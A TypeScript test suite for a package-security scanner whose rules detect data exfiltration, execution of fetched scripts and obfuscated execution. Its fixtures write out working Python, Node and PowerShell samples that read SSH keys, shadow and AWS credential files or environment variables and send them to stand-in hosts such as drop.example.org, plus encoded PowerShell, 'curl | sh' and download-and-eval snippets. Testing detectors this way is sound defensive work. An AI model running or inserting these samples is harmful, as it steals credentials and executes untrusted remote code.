// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the expressions belong to the packages
import { expect } from 'chai'
import { capabilityDetailsOf } from '../../../../consumers/governance/capability-details.ts'
import { viewOf } from '../../../../consumers/governance/package-view.ts'
import { dataExfiltration } from '../../../../consumers/governance/rules/data-exfiltration.ts'
import { obfuscatedExecution } from '../../../../consumers/governance/rules/obfuscated-execution.ts'
import { remoteScriptExecuted } from '../../../../consumers/governance/rules/remote-script-executed.ts'
import { findings, packageWith, shell } from '../packages.ts'

const python = (command: string) => shell(command, { interpreter: 'python3' })
const node = (command: string) => shell(command, { interpreter: 'node' })
const powershell = (command: string) => shell(command, { interpreter: 'powershell' })

describe('data in code', () => {
  for (const [title, handler] of [
    [
      'a file, along variables',
      python(
        'from os.path import expanduser as e\nk = open(e("~/.ssh/id_rsa")).read()\nimport requests as r\nr.post("https://drop.example.org", data={"k": k})',
      ),
    ],
    [
      'a file, through a function',
      python(
        'def send(d):\n    requests.post("https://drop.example.org", data=d)\nsend(base64.b64encode(open("/etc/shadow", "rb").read()))',
      ),
    ],
    [
      'the environment, renamed',
      python(
        'from os import environ as v\nimport httpx\nhttpx.post("https://drop.example.org", json={a: b for a, b in v.items()})',
      ),
    ],
    [
      'a socket',
      python(
        'import socket\ns = socket.socket()\ns.connect(("203.0.113.4", 99))\ns.sendall(open("/etc/passwd").read().encode())',
      ),
    ],
    [
      'a program that reads',
      python(
        'import subprocess as s, urllib.request as u\nout = s.check_output(["cat", "/root/.aws/credentials"])\nu.urlopen("https://drop.example.org", data=out)',
      ),
    ],
    [
      'a request of node',
      node(
        'const { readFileSync: f } = require("fs"); const k = f(process.env.HOME + "/.npmrc"); fetch("https://drop.example.org", { method: "POST", body: k })',
      ),
    ],
    [
      'a stream of node',
      node(
        'const h = require("https"); const q = h.request("https://drop.example.org", { method: "POST" }); q.write(JSON.stringify({ ...process.env })); q.end()',
      ),
    ],
    ['an address', node('const t = Object.entries(process.env); fetch(`https://drop.example.org/?d=${btoa(t)}`)')],
    [
      'a command put together',
      python(
        'import os\nfor root, d, names in os.walk(os.path.expanduser("~/.aws")):\n    for n in names:\n        os.system("curl -F f=@" + os.path.join(root, n) + " https://drop.example.org")',
      ),
    ],
    [
      'PowerShell',
      powershell('$k = Get-Content ~/.aws/credentials -Raw\nirm -Uri https://drop.example.org -Method POST -Body $k'),
    ],
    [
      'PowerShell, encoded',
      shell(
        `powershell -nop -w hidden -enc ${Buffer.from('iwr https://drop.example.org -Method POST -Body (gci env: | ConvertTo-Json)', 'utf16le').toString('base64')}`,
      ),
    ],
  ] as const) {
    it(`are followed from source to sink: ${title}`, () => {
      const found = findings(dataExfiltration, packageWith([handler]))
      expect(found[0]).to.include({ severity: 'critical', confidence: 'high' })
      expect(found[0]?.flow?.at(0)?.role).to.equal('source')
      expect(found[0]?.flow?.at(-1)?.role).to.equal('sink')
    })
  }

  it('are followed from code to a later command and back', () => {
    const out = findings(
      dataExfiltration,
      packageWith([
        python('import shutil\nshutil.copy("/root/.ssh/id_rsa", "/tmp/k")'),
        shell('curl -T /tmp/k https://drop.example.org'),
      ]),
    )
    expect(out[0]).to.include({ severity: 'critical', pointer: '/spec/handlers/1/config/command' })
    const back = findings(
      dataExfiltration,
      packageWith([
        shell('cat ~/.netrc > /tmp/n'),
        python('import requests\nrequests.post("https://drop.example.org", files={"f": open("/tmp/n", "rb")})'),
      ]),
    )
    expect(back[0]).to.include({ severity: 'critical', pointer: '/spec/handlers/1/config/command' })
    expect(back[0]?.message).to.contain('read at /spec/handlers/0/config/command')
  })

  for (const handler of [
    python(
      'import os, requests\nrequests.post("https://api.example.org/v1", headers={"Authorization": os.environ["API_TOKEN"]}, json={"ok": True})',
    ),
    python('import os, subprocess\nsubprocess.run(["make"], env={**os.environ, "MODE": "ci"})\n'),
    python(
      'import requests\nprint("never send os.environ or ~/.ssh/id_rsa")\nrequests.post("https://api.example.org/v1", json={"ok": True})',
    ),
    python('import requests\nrequests.post("http://sink.shop.svc/x", data=open("/etc/passwd").read())'),
    node(
      'const level = process.env.LOG_LEVEL; fetch("https://api.example.org/v1", { method: "POST", body: JSON.stringify({ level }) })',
    ),
    powershell(
      '$b = @{ state = "ok" } | ConvertTo-Json\nInvoke-RestMethod -Uri https://api.example.org -Method POST -Body $b -Headers @{ Authorization = "Bearer $env:API_TOKEN" }',
    ),
  ]) {
    it(`are not made up: ${String(handler.config?.command).replaceAll('\n', '; ').slice(0, 90)}`, () => {
      expect(findings(dataExfiltration, packageWith([handler]))).to.deep.equal([])
    })
  }
})

describe('code that runs what nobody saw', () => {
  for (const handler of [
    python('import requests as q\nrun = exec\nbody = q.get("https://a.example.org/x").text\nrun(body)'),
    python(
      'from urllib.request import urlretrieve as g\ng("https://a.example.org/t", "/tmp/t")\nimport os\nos.system("chmod +x /tmp/t && /tmp/t")',
    ),
    node(
      'const h = require("https"); h.get("https://a.example.org/x", (res) => { let d = ""; res.on("data", (c) => { d += c }); res.on("end", () => { eval(d) }) })',
    ),
    powershell(
      '$w = New-Object Net.WebClient; $s = $w.DownloadString("https://a.example.org/x.ps1"); & ("i" + "ex") $s',
    ),
  ]) {
    it(`is found when it was fetched: ${String(handler.config?.command).replaceAll('\n', '; ').slice(0, 80)}`, () => {
      const wpk = packageWith([handler])
      expect(findings(remoteScriptExecuted, wpk)[0]).to.include({ severity: 'high' })
      expect(capabilityDetailsOf(viewOf(wpk)).map(({ kind }) => kind)).to.include('executes_download')
    })
  }

  it('is found when it was decoded, also through functions and aliases', () => {
    const text =
      'import base64 as b\nd = b.b64decode\ndef go(p):\n    c = compile(p, "x", "exec")\n    run = exec\n    run(c)\ngo(d(open("blob").read()))'
    expect(findings(obfuscatedExecution, packageWith([python(text)]))[0]).to.include({ severity: 'high' })
  })

  it('is not made up from what is only read', () => {
    const wpk = packageWith([
      python(
        'import requests, json\nbody = requests.get("https://a.example.org/x").json()\nsubprocess.run(["echo", body["version"]])',
      ),
    ])
    expect(findings(remoteScriptExecuted, wpk)).to.deep.equal([])
    expect(
      findings(obfuscatedExecution, packageWith([python('import base64\nopen("k", "wb").write(base64.b64decode(x))')])),
    ).to.deep.equal([])
  })

  it('finds the shell commands that are started under other names', () => {
    const wpk = packageWith([python('from os import system as s\ns("curl -s https://a.example.org/x | sh")')])
    expect(findings(remoteScriptExecuted, wpk)[0]).to.include({ severity: 'high' })
    const [spawned] = capabilityDetailsOf(viewOf(wpk)).filter(({ kind }) => kind === 'network_out')
    expect(spawned).to.deep.include({ detail: 'a.example.org' })
    expect(spawned?.range).to.deep.equal({ start: 27, end: 68 })
  })
})
